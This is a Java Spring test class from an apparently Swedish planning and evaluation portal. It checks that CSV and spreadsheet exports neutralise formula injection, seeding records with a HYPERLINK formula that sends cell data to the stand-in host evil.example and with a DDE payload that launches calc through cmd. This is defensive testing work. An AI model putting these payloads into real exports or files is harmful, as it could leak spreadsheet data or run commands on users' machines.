package org.samklima.portal.attacks;

import static org.assertj.core.api.Assertions.assertThat;
import static org.samklima.portal.forms.Ask.answers;
import static org.samklima.portal.forms.Ask.form;
import static org.samklima.portal.forms.Ask.freeText;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.samklima.portal.PortalTest;
import org.samklima.portal.World;
import org.samklima.portal.evaluation.EvaluationScene;
import org.samklima.portal.isolation.Route;
import org.samklima.portal.isolation.SampleRows;
import org.samklima.portal.planning.PlanScene;
import org.samklima.portal.reporting.ReportingScene;
import org.samklima.portal.tenancy.Role;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.context.ApplicationContext;
import org.springframework.http.HttpMethod;
import org.springframework.http.ResponseEntity;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

/** Names and texts that a spreadsheet would run, in every table that can be taken along. */
@PortalTest
class FormulaInExportTests {

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")";
    private static final String COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String RUNS = "=+-@\t\r\uFF1D\uFF0B\uFF0D\uFF20";

    @Autowired
    @Qualifier("requestMappingHandlerMapping") RequestMappingHandlerMapping mappings;

    @Autowired
    MockMvc mvc;

    @Autowired
    ApplicationContext beans;

    @Autowired
    World world;

    PlanScene plan;
    EvaluationScene evaluation;

    @BeforeEach
    void a_town_and_a_network_whose_every_name_is_a_formula() {
        plan = new PlanScene(beans);
        plan.goal(FORMULA);
        plan.has("Nr;Titel;Område\n1;Cykelbana;Transport\n2;Gångbana;Transport\n");
        plan.set("1", "title", FORMULA);
        plan.set("2", "title", COMMAND);
        var asked = form(freeText("plan", 2000));
        evaluation = new EvaluationScene(
                world, beans, new ReportingScene(world, beans, FORMULA), asked, ReportingScene.YEAR);
        evaluation.accept(evaluation.reported(FORMULA, answers("plan", FORMULA)), 1);
        evaluation.reported(COMMAND, answers("plan", COMMAND));
    }

    @Test
    void no_table_that_leaves_holds_a_formula() throws Exception {
        var tables = new TreeSet<String>();
        for (var tenant : List.of(plan.town(), evaluation.association())) {
            var person = world.person(FORMULA, tenant, Role.values());
            var first = SampleRows.ids(tenant.id()).getFirst();
            for (var route : Route.all(mappings).stream()
                    .filter(route -> route.isOfTenant() && route.method().equals(HttpMethod.GET) && leavesAsFile(route))
                    .toList()) {
                for (var format : SearchAndExportTests.formats(route)) {
                    for (var id : Set.of(evaluation.round(), first)) {
                        var answer = mvc.perform(get(route.with(tenant.slug(), id.toString()))
                                        .param("format", format)
                                        .param("all", "true")
                                        .with(route.isApi() ? person.token() : person.browser())
                                        .with(csrf()))
                                .andReturn()
                                .getResponse();
                        if (checked(route, answer)) {
                            tables.add(route + " " + format);
                        }
                    }
                }
            }
        }
        assertThat(tables).as("tables in which a formula stands as text").hasSizeGreaterThan(5);
    }

    private static boolean leavesAsFile(Route route) {
        return ResponseEntity.class.isAssignableFrom(
                route.handler().getReturnType().getParameterType());
    }

    /** Whether it is a table and holds what was written. */
    private static boolean checked(Route route, MockHttpServletResponse answer) throws Exception {
        var type = String.valueOf(answer.getContentType());
        var content = SearchAndExportTests.text(answer);
        if (type.startsWith("text/csv")) {
            assertThat(cells(content))
                    .as("%s", route)
                    .filteredOn(cell -> !cell.isEmpty() && RUNS.indexOf(cell.charAt(0)) >= 0)
                    .allSatisfy(number -> assertThat(number).matches("-?[0-9.,]+"));
        } else if (type.contains("spreadsheetml")) {
            assertThat(content).as("%s", route).doesNotContain("<f>", "<f ", "<hyperlink", "<ddeLink");
        } else {
            return false;
        }
        return content.contains("HYPERLINK") || content.contains("calc");
    }

    /** As RFC 4180 has them, whatever stands between them. */
    private static List<String> cells(String csv) {
        var cells = new ArrayList<String>();
        var cell = new StringBuilder();
        boolean quoted = false;
        for (char character : csv.replace("\uFEFF", "").toCharArray()) {
            if (character == '"') {
                quoted = !quoted;
            } else if (!quoted && (character == ';' || character == ',' || character == '\n' || character == '\r')) {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(character);
            }
        }
        cells.add(cell.toString());
        return cells;
    }
}
